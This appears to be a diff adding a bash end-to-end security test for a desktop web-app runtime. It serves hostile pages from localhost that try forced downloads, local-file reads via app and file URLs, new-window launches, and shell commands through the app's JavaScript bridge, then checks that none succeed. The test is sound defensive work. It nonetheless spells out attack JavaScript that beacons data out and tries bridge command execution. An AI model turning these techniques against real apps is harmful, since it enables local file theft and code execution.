@@ -1,0 +1,179 @@
+#!/bin/bash
+# Foreign content against the app, end to end: a page served from 127.0.0.1
+# runs as a frame inside the app's page (row "frame") and as the top-level
+# page the app navigated to (row "top"). Each tries what an attacker would:
+# save a page to disk through a download, read local files through the app's
+# addresses, open a local page in a new window (a new instance), and
+# navigate to one. Judged by effects only: no command ran (marker files), no
+# file appeared in the home folder, nothing local reached the server, no
+# second instance started, and the app's own page keeps its bridge.
+# Usage: hostile_e2e.sh RUNTIME PACKER OUT_DIR
+set -uo pipefail
+runtime=$1
+packer=$2
+out=$3
+here=$(cd "$(dirname "$0")" && pwd)
+# shellcheck source=lib.sh
+. "$here/lib.sh"
+require_x_tools
+command -v python3 >/dev/null || { echo "SKIP: python3 missing"; exit 77; }
+rm -rf "$out"
+mkdir -p "$out"
+out=$(cd "$out" && pwd)
+fails=0
+fail() {
+  echo "FAIL: $*" >&2
+  fails=$((fails + 1))
+}
+
+export HOME=$out/home XDG_CONFIG_HOME=$out/config XDG_DATA_HOME=$out/data TMPDIR=$out/tmp
+export XDG_CACHE_HOME=$out/cache LC_ALL=C.UTF-8 LANGUAGE=
+work=$out/work
+app_dir=$out/app
+www=$out/www
+mkdir -p "$HOME/Downloads" "$TMPDIR" "$work" "$app_dir" "$www"
+
+python3 -u -m http.server 0 --bind 127.0.0.1 --directory "$www" >"$out/http.log" 2>&1 &
+http_pid=$!
+port=
+for _ in $(seq 100); do
+  port=$(sed -n 's/.* port \([0-9]*\).*/\1/p' "$out/http.log" | head -1)
+  [[ -n $port ]] && break
+  sleep 0.1
+done
+[[ -n $port ]] || { echo "the HTTP server did not start: $(cat "$out/http.log")" >&2; kill "$http_pid"; exit 1; }
+server=http://127.0.0.1:$port
+
+# What the attacker hopes to reach on disk: a page that runs commands through
+# any bridge it can find, a script that reports itself, an image.
+cat >"$work/payload.html" <<PAYLOAD
+<!DOCTYPE html><title>payload</title><script>
+new Image().src = "$server/payload?at=" + encodeURIComponent(location.href);
+var command = {command: "touch '$work/ran'"};
+try { window.chrome.webview.postMessage({id: 70003, uuid: "p1", data: command}); } catch (e) {}
+try { vtx.shell.command(command); } catch (e) {}
+try { parent.vtx.shell.command(command); } catch (e) {}
+try { opener.vtx.shell.command(command); } catch (e) {}
+</script>
+PAYLOAD
+echo "new Image().src = '$server/leak?what=script-ran';" >"$work/secret.js"
+printf '\x89PNG\r\n\x1a\n' >"$work/exists.png"
+
+cat >"$www/attack.html" <<'ATTACK'
+<!DOCTYPE html><title>foreign</title><body><script>
+var query = new URLSearchParams(location.search);
+var row = query.get("row"), work = query.get("work");
+var app = "tessel-app://app" + work + "/", file = "file://" + work + "/";
+function report(what) { new Image().src = "/" + what + (what.indexOf("?") < 0 ? "?" : "&") + "row=" + row; }
+function sleep(ms) { return new Promise(function (done) { setTimeout(done, ms); }); }
+function load(tag, src) {
+  var element = document.createElement(tag);
+  element.onload = function () { report("leak?what=" + tag + "-load"); };
+  element.src = src;
+  document.body.appendChild(element);
+}
+(async function () {
+  // 1. A page saved to disk without asking.
+  var link = document.createElement("a");
+  link.download = "payload-" + row + ".html";
+  link.href = "data:text/html,<script>document.title='saved'<\/script>";
+  document.body.appendChild(link);
+  link.click();
+  await sleep(700);
+  report("step?n=download");
+  // 2. Local files through the app's addresses: load/error tells existence,
+  //    a script runs, a fetch reads.
+  load("script", app + "secret.js");
+  load("img", app + "exists.png");
+  load("iframe", app + "payload.html");
+  load("iframe", file + "payload.html");
+  fetch(app + "secret.js").then(function (r) { return r.text(); })
+      .then(function (text) { report("leak?what=fetch-" + text.length); }, function () {});
+  await sleep(1500);
+  report("step?n=read");
+  // 3. A local page in a new window: a relaunched instance.
+  window.open(file + "payload.html");
+  window.open(app + "payload.html");
+  await sleep(1500);
+  report("step?n=open");
+  if (parent !== window) parent.postMessage("attack done", "*");
+  // 4. Navigation to a local page, through the app's address and as a file.
+  report("step?n=navigate");
+  location.href = app + "payload.html";
+  await sleep(1000);
+  location.href = file + "payload.html";
+  await sleep(1000);
+  report("done");
+})();
+</script>
+ATTACK
+
+start_display "$out/x"
+stop_all() {
+  kill "$http_pid" 2>/dev/null
+  pkill -f "$app_dir/hostile-e2e" 2>/dev/null
+  stop_display
+}
+trap stop_all EXIT
+
+"$packer" "$here/apps/hostile" "$app_dir/hostile-e2e" --runtime "$runtime" >"$out/pack.log" 2>&1 ||
+  { echo "packing failed: $(cat "$out/pack.log")" >&2; exit 1; }
+
+instances() { pgrep -f "^$app_dir/hostile-e2e" | wc -l; }
+
+run_row() {
+  local row=$1 log=$out/run-$1.log pid win caption since
+  since=$(wc -l <"$out/http.log")
+  served() { tail -n +$((since + 1)) "$out/http.log"; }
+  printf 'window.E2E = {work: "%s", port: %s, row: "%s"};\n' "$work" "$port" "$row" >"$app_dir/e2e-config.js"
+  rm -f "$work/ran"
+  touch "$out/stamp"
+  sleep 1
+  TESSEL_TRACE=1 "$app_dir/hostile-e2e" >"$log" 2>&1 &
+  pid=$!
+  E2E_CHILDREN=$pid
+  # The top-level page of another origin gets no save dialog. A frame inside
+  # the app's page may get one: WebKitGTK does not tell which frame started
+  # a download, so the user is asked, and here declines.
+  local dialog
+  if dialog=$(find_window 'Save File' 6); then
+    [[ $row == frame ]] || fail "$row: a save dialog opened"
+    xdotool windowactivate --sync "$dialog" key --clearmodifiers Escape 2>/dev/null
+  fi
+  if ! wait_for 30 eval 'served | grep -q "GET /done?row=$row "'; then
+    fail "$row: the foreign page did not finish: $(served | tail -3)"
+  fi
+  sleep 1
+  win=$(xdotool search --onlyvisible --pid "$pid" 2>/dev/null | head -1)
+  caption=$(xdotool getwindowname "$win" 2>/dev/null)
+  if [[ $row == frame ]]; then
+    [[ $caption == "AFTER 2021.28" ]] || fail "$row: the app's page lost its bridge: title '$caption'"
+  fi
+  served | grep -q "GET /step?n=read&row=$row " || fail "$row: the attack did not run"
+  [[ -e $work/ran ]] && fail "$row: a command ran"
+  served | grep -q 'GET /leak' && fail "$row: local content reached the server: $(served | grep 'GET /leak')"
+  served | grep -q 'GET /payload' && fail "$row: the local page was loaded: $(served | grep 'GET /payload')"
+  local new_files
+  new_files=$(find "$HOME" -type f -newer "$out/stamp" 2>/dev/null)
+  [[ -n $new_files ]] && fail "$row: files appeared in the home folder: $new_files"
+  [[ $(instances) == 1 ]] || fail "$row: $(instances) instances run"
+  kill "$pid" 2>/dev/null
+  wait "$pid" 2>/dev/null
+  pkill -f "^$app_dir/hostile-e2e" 2>/dev/null
+}
+
+wait_for() {
+  local seconds=$1
+  shift
+  for _ in $(seq $((seconds * 10))); do
+    "$@" && return 0
+    sleep 0.1
+  done
+  return 1
+}
+
+run_row frame
+run_row top
+
+[[ $fails == 0 ]] && echo "hostile e2e: all passed"
+exit $((fails > 0))
